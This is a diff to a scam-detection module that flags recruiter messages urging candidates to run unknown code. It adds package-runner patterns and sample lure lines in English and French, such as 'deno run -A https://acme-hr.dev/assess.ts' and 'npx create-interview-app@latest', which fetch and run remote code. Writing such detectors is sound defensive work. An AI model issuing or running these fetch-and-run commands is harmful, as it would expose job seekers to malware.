@@ -1927,6 +1927,8 @@ RUN_OUR_CODE = PatternSignal(
     "2023; Socket; Phylum; dev-trap-dossiers; alien45; Emilian Bold; Dan Heskett; xndbogdan; "
     "roman.pt; Microsoft Feb 2026",
     patterns={"message": d.RUN_CODE_PATTERNS + _RUN_CODE_MORE},
+    # a public tool run on the candidate's own code ("run your tests with npx jest"; R28-F)
+    unless_template=d.KNOWN_RUNNER_TOOLS,
     examples=(
         E("Corrige le bug dans notre backend avant l'appel.",
           lang="fr", spans=("Corrige le bug dans notre backend",)),
@@ -1961,6 +1963,21 @@ RUN_OUR_CODE = PatternSignal(
           "merci de l'exécuter sur votre poste.", lang="fr",
           spans=("exercice, modifiez le module de paiement dans notre application existante",
                  "l'exécuter sur votre poste")),
+        # package runners that fetch and run a package (rule R28-F, red-team round 10 F9)
+        E("Just run npx create-interview-app@latest and share your screen.",
+          spans=("npx create-interview-app@latest",)),
+        E("Run bunx acme-assess, or uvx acme-assess if you prefer Python.",
+          spans=("bunx acme-assess", "uvx acme-assess")),
+        E("Please run pipx run acme-assess and send me the output.",
+          spans=("pipx run acme-assess",)),
+        E("Install nothing, just go run github.com/acme-hr/assess@latest.",
+          spans=("go run github.com/acme-hr/assess@latest",)),
+        E("Then deno run -A https://acme-hr.dev/assess.ts in a terminal.",
+          spans=("deno run -A https://acme-hr.dev/assess.ts",)),
+        E("Lancez simplement npx --yes acme-assess@1.2.0 et partagez votre écran.", lang="fr",
+          spans=("npx --yes acme-assess@1.2.0",)),
+        E("Exécutez « deno run --allow-all jsr:@acme/assess » puis envoyez-nous le résultat.",
+          lang="fr", spans=("deno run --allow-all jsr:@acme/assess",)),
     ),
     counterexamples=(
         E("After our call you'll get a 2-hour HackerRank exercise."),
@@ -1975,6 +1992,16 @@ RUN_OUR_CODE = PatternSignal(
         E("Include a README so that we can build it and run it on our side."),
         E("Le poste consiste à faire évoluer notre application existante.", lang="fr"),
         E("Récupérez le code d'accès envoyé par SMS pour vous connecter.", lang="fr"),
+        # a take-home README: the candidate writes the code and runs their own tests through a
+        # package runner; "go run" and "Deno" as ordinary words (rule R28-F)
+        E("Write your solution in src/, in your own repository, and run your tests with npx "
+          "jest before you submit.", note="a public test tool on the candidate's code (R28-F)"),
+        E("Scaffold your answer with npx create-react-app my-solution, then push it to GitHub."),
+        E("Let's go run the numbers with finance before Friday."),
+        E("Deno runs our platform team; Deno will be on the call too."),
+        E("Écrivez votre solution dans votre propre dépôt et lancez vos tests avec npx vitest.",
+          lang="fr", note="R28-F"),
+        E("Deno, notre CTO, sera présent à l'entretien.", lang="fr"),
     ),
 )
 
@@ -2744,8 +2771,8 @@ _RUN_VERB = (
     # (the object keeps "run through your CV" and "run a call" out; RE2 has no lookahead)
     r"\b(?:run|execute|launch) (?:it|them|this|that|the|our|my|npm|yarn|pnpm|docker"
     r"|all|everything|locally)\b|\binstall " + _CODE_OBJECT + r"\b|\bclone\b|\bgit clone\b"
-    r"|\b(?:npm|yarn|pnpm) (?:install|i|start|run|dev)\b|\bpip install\b"
-    r"|\bdocker(?:-| )compose up\b|\bset (?:it|this|that|them|everything) up\b"
+    r"|\b(?:npm|yarn|pnpm) (?:install|i|start|run|dev)\b|\bpip install\b|" + d.PACKAGE_RUNNER
+    + r"|\bdocker(?:-| )compose up\b|\bset (?:it|this|that|them|everything) up\b"
     r"|\bset up (?:the|our|this|my|your) (?:local |dev |development )?(?:project|app"
     r"|application|repo|repository|environment|codebase|code|mvp|dapp|demo|backend|frontend)\b"
     r"|\bget (?:it|the (?:project|app|application|code|repo)|our (?:project|app|application"
@@ -2768,7 +2795,7 @@ _RUN_VERB_FR = (
     r"|\b(?:fai(?:re|tes|s)|fer(?:ez|as|ons)) tourner\b|\bmett(?:re|ez) en place (?:le|l'|notre"
     r"|votre) ?(?:projet|environnement|application|depot|code)\b"
     r"|\b(?:l'|les |le |la )(?:installer|executer|lancer|demarrer)\b"
-    r"|\b(?:npm|yarn) (?:install|i|start|run)\b|\bgit clone\b"
+    r"|\b(?:npm|yarn) (?:install|i|start|run)\b|\bgit clone\b|" + d.PACKAGE_RUNNER
 )
 #: "There's nothing to install before the call", "we will never ask you to run or install code",
 #: « pas besoin d'installer quoi que ce soit »: no run request (with NEGATED_ACTION, scope
@@ -2839,6 +2866,17 @@ RUN_BEFORE_CALL = PatternSignal(
         E("Bonjour", lang="fr", fields={"sender_company": "DexLabs | Lancez le projet avant "
                                                           "l'entretien"},
           spans=("Lancez le projet avant l'entretien",), note="R26-C"),
+        # package runners (rule R28-F, red-team round 10 F9)
+        E("Hi! Before the interview, please run npx create-interview-app@latest so we can "
+          "review it on the call.",
+          spans=("Before the interview, please run npx create-interview-app@latest",)),
+        E("Run uvx acme-assess before our call.", spans=("uvx acme-assess before our call",)),
+        E("Just go run github.com/acme-hr/assess@latest before we talk.",
+          spans=("go run github.com/acme-hr/assess@latest before we talk",)),
+        E("Avant l'entretien, lancez bunx acme-assess s'il vous plaît.", lang="fr",
+          spans=("Avant l'entretien, lancez bunx acme-assess",)),
+        E("Exécutez pipx run acme-assess avant notre appel.", lang="fr",
+          spans=("pipx run acme-assess avant notre appel",)),
     ),
     counterexamples=(
         E("Please complete the exercise before the interview."),
@@ -2864,6 +2902,9 @@ RUN_BEFORE_CALL = PatternSignal(
           note="a developer's headline; no request across its statements (R26-C)"),
         E("Bonjour", lang="fr", fields={"sender_headline": "Coach | préparez-vous avant "
                                                            "l'entretien"}),
+        E("We'll go run a quick sync before the interview.", note="'go run' as words (R28-F)"),
+        E("Deno will join us before the interview.", note="'Deno' as a name (R28-F)"),
+        E("Nous irons courir avant l'entretien ; Deno sera là.", lang="fr"),
     ),
 )
 
